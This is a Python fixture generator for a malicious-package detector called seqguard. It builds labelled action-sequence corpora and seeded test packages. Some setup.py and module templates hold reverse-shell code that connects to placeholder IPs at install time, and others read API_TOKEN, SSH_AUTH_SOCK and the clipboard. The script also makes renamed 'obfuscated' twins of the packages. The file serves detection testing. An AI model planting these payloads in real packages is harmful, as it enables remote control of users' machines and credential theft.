"""Generate and verify the shipped fixtures under fixtures/.

Outputs:
  corpus.jsonl              60 benign + 60 malicious planted-pattern sequences
  redundant_corpus.jsonl    redundancy-heavy corpus for merge-reduction tests
  heldout_justifiable.jsonl 20 labeled sequences matching the justifiable pattern
  eval_manifest.jsonl       10 fixture packages with ground-truth labels
  eval_manifest_fp.jsonl    same, with one deliberately mislabeled package
  packages/                 5 clean + 5 seeded packages
  packages_obfuscated/      alias-renamed twins of every package

The generator re-runs the full pipeline and asserts the properties the
test suite depends on; a failed assert means the fixture design broke.
"""

import json
import pathlib
import random
import re
import shutil
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "src"))

from seqguard.corpus import load_corpus
from seqguard.detector import classify_sequence, scan_package
from seqguard.extractor import extract_file
from seqguard.knowledge import build_kb
from seqguard.miner import MiningConfig, covers, hierarchical_mine
from seqguard.providers import offline_providers
from seqguard.taxonomy import load_seed_taxonomy

ROOT = pathlib.Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "fixtures"

FIXTURE_SUPPORTS = (10, 5, 3, 2)
TAU = 0.9

RS_CHAIN = (
    "create_socket",
    "establish_tcp_connection",
    "dup_socket_stdin",
    "dup_socket_stdout",
    "dup_socket_stderr",
)
IH_CHAIN = ("get_env_var", "get_clipboard_text", "copy_to_clipboard")
ADMIN_CHAIN = ("get_env_var", "spawn_process_no_shell", "read_process_stdout")
INSTALL_CHAIN = ("path_string_operations", "execute_shell_command", "exit_program")
MISC_CHAIN = ("basic_file_reading", "serialize_to_json")
JUST_HEAD = "decode_base64_to_bytes"
JUST_TAIL = "exec_python_code"

DISTRACTORS = (
    "create_directory",
    "list_directory",
    "parse_json_data",
    "sleep_delay",
    "create_thread",
    "get_os_info",
    "get_hostname",
    "resolve_hostname",
    "compress_data",
    "encode_url_params",
)

BENIGN_CTX_WORDS = (
    "configuration loader reads bundled resource settings during install "
    "cache refresh template renders local report summary packaging assets"
).split()
MAL_CTX_WORDS = (
    "payload stager decodes remote blob spawns hidden task beacon callback "
    "exfil harvest token implant dropper staging collector relay"
).split()


def planted_sequence(rng, chain):
    """The chain plus 0-2 distractors at random positions (subsequence kept)."""
    actions = list(chain)
    for distractor in rng.sample(DISTRACTORS, rng.choice([0, 1, 1, 2])):
        actions.insert(rng.randrange(len(actions) + 1), distractor)
    return tuple(actions)


def make_context(rng, pool):
    return " ".join(rng.sample(list(pool), 8))


def build_main_corpus(taxonomy):
    rng = random.Random(7)
    used = (
        set(RS_CHAIN)
        | set(IH_CHAIN)
        | set(ADMIN_CHAIN)
        | set(INSTALL_CHAIN)
        | set(MISC_CHAIN)
        | {JUST_HEAD, JUST_TAIL}
        | set(DISTRACTORS)
    )
    free = [a for a in taxonomy.actions if a not in used]
    assert len(free) >= 46, f"need 46 free actions, have {len(free)}"
    mal_mids = free[:27]
    ben_mids = free[27:30]
    chain_a = tuple(free[30:38])  # redundancy fixture, malicious chain
    chain_b = tuple(free[38:46])  # redundancy fixture, benign chain

    rows = []

    def add(seq_id, label, actions, context=None):
        row = {"id": seq_id, "label": label, "actions": list(actions)}
        if context:
            row["context"] = context
        rows.append(row)

    for i in range(20):
        ctx = make_context(rng, MAL_CTX_WORDS) if i % 5 == 0 else None
        add(f"m-rs-{i:02d}", "malicious", planted_sequence(rng, RS_CHAIN), ctx)
    for i in range(13):
        ctx = make_context(rng, MAL_CTX_WORDS) if i % 5 == 0 else None
        add(f"m-ih-{i:02d}", "malicious", planted_sequence(rng, IH_CHAIN), ctx)
    for i, mid in enumerate(mal_mids):
        actions = (JUST_HEAD, mid, mid, JUST_TAIL, mid)
        add(f"m-just-{i:02d}", "malicious", actions, make_context(rng, MAL_CTX_WORDS))
    for i in range(20):
        ctx = make_context(rng, BENIGN_CTX_WORDS) if i % 5 == 0 else None
        add(f"b-admin-{i:02d}", "benign", planted_sequence(rng, ADMIN_CHAIN), ctx)
    for i in range(20):
        ctx = make_context(rng, BENIGN_CTX_WORDS) if i % 5 == 0 else None
        add(f"b-inst-{i:02d}", "benign", planted_sequence(rng, INSTALL_CHAIN), ctx)
    for i in range(17):
        ctx = make_context(rng, BENIGN_CTX_WORDS) if i % 5 == 0 else None
        add(f"b-misc-{i:02d}", "benign", planted_sequence(rng, MISC_CHAIN), ctx)
    for i, mid in enumerate(ben_mids):
        actions = (JUST_HEAD, mid, mid, JUST_TAIL, mid)
        add(f"b-just-{i:02d}", "benign", actions, make_context(rng, BENIGN_CTX_WORDS))

    heldout = []
    for i in range(14):
        mid = mal_mids[i]
        extra = DISTRACTORS[i % len(DISTRACTORS)]
        heldout.append(
            {
                "id": f"h-mal-{i:02d}",
                "label": "malicious",
                "actions": [JUST_HEAD, mid, mid, JUST_TAIL, mid, extra],
            }
        )
    for j in range(6):
        mid = ben_mids[j % 3]
        extra = DISTRACTORS[(j + 3) % len(DISTRACTORS)]
        heldout.append(
            {
                "id": f"h-ben-{j:02d}",
                "label": "benign",
                "actions": [JUST_HEAD, mid, mid, JUST_TAIL, mid, extra],
            }
        )

    redundant = []
    for i in range(30):
        redundant.append(
            {"id": f"r-mal-{i:02d}", "label": "malicious", "actions": list(chain_a)}
        )
        redundant.append(
            {"id": f"r-ben-{i:02d}", "label": "benign", "actions": list(chain_b)}
        )
    return rows, heldout, redundant, mal_mids, ben_mids


# --- fixture packages ------------------------------------------------------

SETUPTOOLS_STUB = 'from setuptools import setup\n\nsetup(name="{name}", version="0.1.0")\n'

NO_API_INIT = '"""Package marker."""\n\n__version__ = "0.1.0"\n'

NO_API_UTIL = '''"""String helpers with no system access."""


def shout(text):
    return text.upper() + "!"


def indent(text, width=4):
    pad = " " * width
    return "\\n".join(pad + line for line in text.splitlines())
'''

RS_SETUP = '''from setuptools import setup
import socket
import os
import time


def _post_install():
    time.sleep(1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("{ip}", {port}))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)


_post_install()

setup(name="{name}", version="0.1.0")
'''

RS_SETUP_MKDIR = '''from setuptools import setup
import socket
import os


def _prepare():
    os.makedirs("/tmp/.cache-{name}", exist_ok=True)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("{ip}", {port}))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)


_prepare()

setup(name="{name}", version="0.1.0")
'''

RS_AGENT = '''import socket
import os


def start():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("{ip}", {port}))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    return s
'''

IH_INIT = '''import os
import pyperclip


def _sync():
    token = os.getenv("API_TOKEN")
    clip = pyperclip.paste()
    pyperclip.copy(clip)
    return token, clip


_sync()
'''

IH_COLLECT = '''import os
import platform
import pyperclip


def snapshot():
    key = os.getenv("SSH_AUTH_SOCK")
    osname = platform.system()
    board = pyperclip.paste()
    pyperclip.copy(board)
    return key, osname, board
'''

ADMIN_SYSINFO = '''import os
import subprocess


def current_status():
    home = os.getenv("HOME")
    proc = subprocess.run(["uptime"], capture_output=True)
    banner = subprocess.check_output(["uname", "-a"])
    return home, proc.returncode, banner
'''

INSTALL_SETUP = '''from setuptools import setup
import os
import sys


def check_environment():
    root = os.path.dirname(os.path.abspath(__file__))
    status = os.system("pip --version")
    if status != 0:
        sys.exit(1)
    return root


check_environment()

setup(name="{name}", version="0.1.0")
'''

JSON_STORE = '''import json


def save(data, path):
    with open(path, "w") as fh:
        fh.write(json.dumps(data, indent=2))
    return path
'''

FROMIMPORT_MODULE = '''from os import getenv
from subprocess import run, check_output


def report():
    shell = getenv("SHELL")
    proc = run(["hostname"], capture_output=True)
    release = check_output(["uname", "-r"])
    return shell, proc.returncode, release
'''

# (package, label, {relpath: source}, [(kind, *args) rename ops for the twin])
PACKAGES = [
    (
        "textkit",
        "benign",
        {
            "setup.py": SETUPTOOLS_STUB.format(name="textkit"),
            "textkit/__init__.py": NO_API_INIT,
            "textkit/format.py": NO_API_UTIL,
        },
        [],
    ),
    (
        "envtool",
        "benign",
        {
            "envtool/__init__.py": NO_API_INIT,
            "envtool/sysinfo.py": ADMIN_SYSINFO,
        },
        [("import", "os", "_e0"), ("import", "subprocess", "_e1")],
    ),
    (
        "buildhelper",
        "benign",
        {
            "setup.py": INSTALL_SETUP.format(name="buildhelper"),
            "buildhelper/__init__.py": NO_API_INIT,
        },
        [("import", "os", "_b0"), ("import", "sys", "_b1")],
    ),
    (
        "jsonsave",
        "benign",
        {
            "jsonsave/__init__.py": NO_API_INIT,
            "jsonsave/store.py": JSON_STORE,
        },
        [("import", "json", "_j0")],
    ),
    (
        "tinylib",
        "benign",
        {"tinylib.py": FROMIMPORT_MODULE},
        [
            ("from", "os", "getenv", "_t0"),
            ("from", "subprocess", "run", "_t1"),
            ("from", "subprocess", "check_output", "_t2"),
        ],
    ),
    (
        "quickwebauth",
        "malicious",
        {
            "setup.py": RS_SETUP.format(name="quickwebauth", ip="172.16.9.4", port=4444),
            "quickwebauth/__init__.py": NO_API_INIT,
            "quickwebauth/core.py": NO_API_UTIL,
        },
        [
            ("import", "socket", "_q0"),
            ("import", "os", "_q1"),
            ("import", "time", "_q2"),
        ],
    ),
    (
        "pytoolz",
        "malicious",
        {
            "setup.py": RS_SETUP_MKDIR.format(
                name="pytoolz", ip="10.11.12.13", port=9001
            ),
            "pytoolz/__init__.py": NO_API_INIT,
        },
        [("import", "socket", "_p0"), ("import", "os", "_p1")],
    ),
    (
        "netpulse",
        "malicious",
        {
            "setup.py": SETUPTOOLS_STUB.format(name="netpulse"),
            "netpulse/__init__.py": NO_API_INIT,
            "netpulse/agent.py": RS_AGENT.format(ip="198.51.100.7", port=8443),
        },
        [("import", "socket", "_n0"), ("import", "os", "_n1")],
    ),
    (
        "clipsync",
        "malicious",
        {
            "clipsync/__init__.py": IH_INIT,
        },
        [("import", "os", "_c0"), ("import", "pyperclip", "_c1")],
    ),
    (
        "tokenledger",
        "malicious",
        {
            "setup.py": SETUPTOOLS_STUB.format(name="tokenledger"),
            "tokenledger/__init__.py": NO_API_INIT,
            "tokenledger/collect.py": IH_COLLECT,
        },
        [
            ("import", "os", "_k0"),
            ("import", "platform", "_k1"),
            ("import", "pyperclip", "_k2"),
        ],
    ),
]


def apply_alias_renames(source, ops):
    """Mechanical alias-renaming: rewrite import lines, then head-position
    usages (never attribute positions)."""
    lines = source.splitlines(keepends=True)
    out = []
    renames = []
    for line in lines:
        new_line = line
        for op in ops:
            if op[0] == "import":
                _kind, module, alias = op
                if re.match(rf"^import {re.escape(module)}\s*$", new_line.strip()):
                    new_line = new_line.replace(
                        f"import {module}", f"import {module} as {alias}"
                    )
            else:
                _kind, module, name, alias = op
                pattern = rf"^from {re.escape(module)} import (.+)$"
                match = re.match(pattern, new_line.strip())
                if match and re.search(rf"\b{re.escape(name)}\b", match.group(1)):
                    names = [n.strip() for n in match.group(1).split(",")]
                    names = [
                        f"{name} as {alias}" if n == name else n for n in names
                    ]
                    new_line = f"from {module} import {', '.join(names)}\n"
        out.append(new_line)
    for op in ops:
        renames.append((op[1], op[2]) if op[0] == "import" else (op[2], op[3]))
    result = []
    for line in "".join(out).splitlines(keepends=True):
        if re.match(r"^\s*(import|from)\s", line):
            result.append(line)
            continue
        for name, alias in renames:
            line = re.sub(rf"(?<![\w.]){re.escape(name)}\b", alias, line)
        result.append(line)
    return "".join(result)


def write_packages(base):
    plain_root = base / "packages"
    obf_root = base / "packages_obfuscated"
    for root in (plain_root, obf_root):
        if root.exists():
            shutil.rmtree(root)
    manifest = []
    for name, label, files, ops in PACKAGES:
        for relpath, source in files.items():
            plain = plain_root / name / relpath
            plain.parent.mkdir(parents=True, exist_ok=True)
            plain.write_text(source, encoding="utf-8")
            twin = obf_root / name / relpath
            twin.parent.mkdir(parents=True, exist_ok=True)
            twin.write_text(apply_alias_renames(source, ops), encoding="utf-8")
        manifest.append({"path": f"packages/{name}", "label": label})
    return manifest


def write_jsonl(path, rows):
    with open(path, "w", encoding="utf-8") as fh:
        for row in rows:
            fh.write(json.dumps(row, ensure_ascii=False) + "\n")


# --- verification ------------------------------------------------------------


def verify_corpus(corpus, mal_mids, ben_mids):
    benign, malicious = corpus.split_by_label()
    assert len(benign) == 60 and len(malicious) == 60

    for chain, side in [
        (RS_CHAIN, "malicious"),
        (IH_CHAIN, "malicious"),
        (ADMIN_CHAIN, "benign"),
        (INSTALL_CHAIN, "benign"),
        (MISC_CHAIN, "benign"),
    ]:
        cov_b = [s.id for s in benign if covers(chain, s.actions)]
        cov_m = [s.id for s in malicious if covers(chain, s.actions)]
        if side == "malicious":
            assert cov_m and not cov_b, f"{chain} not pure malicious: {cov_b}"
        else:
            assert cov_b and not cov_m, f"{chain} not pure benign: {cov_m}"

    cluster = [s for s in corpus if "-just-" in s.id]
    assert len(cluster) == 30
    pair_coverage = {}
    for seq in cluster:
        pairs = set()
        actions = seq.actions
        for i in range(len(actions)):
            for j in range(i + 1, len(actions)):
                pairs.add((actions[i], actions[j]))
        for pair in pairs:
            pair_coverage.setdefault(pair, []).append(seq.label)
    for pair, labels in pair_coverage.items():
        if len(labels) >= 2:
            assert len(set(labels)) == 2, (
                f"pure in-cluster pair {pair} x{len(labels)} would be eaten "
                f"by deterministic mining"
            )


def verify_mining(corpus):
    result = hierarchical_mine(
        corpus, MiningConfig(supports=FIXTURE_SUPPORTS, tau=TAU)
    )
    just_lists = [p.actions for p in result.justifiable]
    assert just_lists == [(JUST_HEAD, JUST_TAIL)], just_lists
    just = result.justifiable[0]
    assert abs(just.bias_ratio_residual - 0.9) < 1e-12, just.bias_ratio_residual
    assert just.support == 30
    assert result.stats["coverage_total"] == 1.0, result.stats
    assert result.stats["n_just"] == 1
    kinds = {p.kind for p in result.patterns}
    assert "deterministic_malicious" in kinds and "deterministic_benign" in kinds
    print(
        f"  mining ok: |P_det|={len(result.deterministic)} "
        f"|P_just|={len(result.justifiable)} |P_opt|={len(result.patterns)}"
    )
    return result


def verify_detection(taxonomy, corpus, result, base, manifest):
    providers = offline_providers(taxonomy)
    kb = build_kb(result, corpus, providers.embedder, providers.reasoner, k=5)
    for entry in manifest:
        for root_name in ("packages", "packages_obfuscated"):
            report = scan_package(
                base / root_name / pathlib.Path(entry["path"]).name,
                taxonomy,
                kb,
                providers,
            )
            assert report.classification == entry["label"], (
                root_name,
                entry,
                report.to_dict(),
            )
            if entry["label"] == "malicious":
                stages = [
                    f.verdict.stage
                    for f in report.files
                    if f.verdict and f.verdict.classification == "malicious"
                ]
                assert stages and all(s == "deterministic" for s in stages), stages
    plain_root = base / "packages"
    obf_root = base / "packages_obfuscated"
    for plain_file in sorted(plain_root.rglob("*.py")):
        rel = plain_file.relative_to(plain_root)
        twin_file = obf_root / rel
        plain_seq = extract_file(
            plain_file.read_text(), taxonomy, file=rel.as_posix()
        )
        twin_seq = extract_file(twin_file.read_text(), taxonomy, file=rel.as_posix())
        plain_actions = None if plain_seq is None else plain_seq.actions
        twin_actions = None if twin_seq is None else twin_seq.actions
        assert plain_actions == twin_actions, (rel, plain_actions, twin_actions)
    print("  detection ok: 10 packages + twins, 0 FP, 0 FN")
    return kb


def verify_heldout(taxonomy, kb, heldout_rows):
    providers = offline_providers(taxonomy)
    correct = 0
    for row in heldout_rows:
        from seqguard.corpus import ActionSequence

        seq = ActionSequence(
            id=row["id"], label="unknown", actions=tuple(row["actions"])
        )
        verdict = classify_sequence(seq, None, kb, providers)
        assert verdict.stage == "retrieval_vote", verdict
        if verdict.classification == row["label"]:
            correct += 1
    assert correct == len(heldout_rows), f"heldout accuracy {correct}/20"
    print(f"  heldout ok: {correct}/{len(heldout_rows)} via similarity vote")


def verify_redundant(taxonomy, redundant_rows):
    corpus = load_corpus(
        "".join(json.dumps(r) + "\n" for r in redundant_rows), taxonomy
    )
    result = hierarchical_mine(
        corpus, MiningConfig(supports=FIXTURE_SUPPORTS, tau=TAU)
    )
    n_candidates = len(result.deterministic) + len(result.justifiable)
    ratio = len(result.patterns) / n_candidates
    assert ratio <= 0.10, (len(result.patterns), n_candidates)
    covered_opt = set()
    for p in result.patterns:
        covered_opt.update(p.covered_ids)
    covered_all = set()
    for p in list(result.deterministic) + list(result.justifiable):
        covered_all.update(p.covered_ids)
    assert covered_opt == covered_all
    print(
        f"  redundancy ok: {n_candidates} candidates -> "
        f"{len(result.patterns)} merged ({ratio:.4f})"
    )


def main():
    FIXTURES.mkdir(exist_ok=True)
    taxonomy = load_seed_taxonomy()
    rows, heldout, redundant, mal_mids, ben_mids = build_main_corpus(taxonomy)

    corpus_text = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows)
    corpus = load_corpus(corpus_text, taxonomy)
    print("verifying corpus construction ...")
    verify_corpus(corpus, mal_mids, ben_mids)
    result = verify_mining(corpus)

    manifest = write_packages(FIXTURES)
    kb = verify_detection(taxonomy, corpus, result, FIXTURES, manifest)
    verify_heldout(taxonomy, kb, heldout)
    verify_redundant(taxonomy, redundant)

    write_jsonl(FIXTURES / "corpus.jsonl", rows)
    write_jsonl(FIXTURES / "heldout_justifiable.jsonl", heldout)
    write_jsonl(FIXTURES / "redundant_corpus.jsonl", redundant)
    write_jsonl(FIXTURES / "eval_manifest.jsonl", manifest)
    fp_manifest = [
        dict(entry, label="benign")
        if entry["path"].endswith("quickwebauth")
        else entry
        for entry in manifest
    ]
    write_jsonl(FIXTURES / "eval_manifest_fp.jsonl", fp_manifest)
    print(f"fixtures written under {FIXTURES}")


if __name__ == "__main__":
    main()
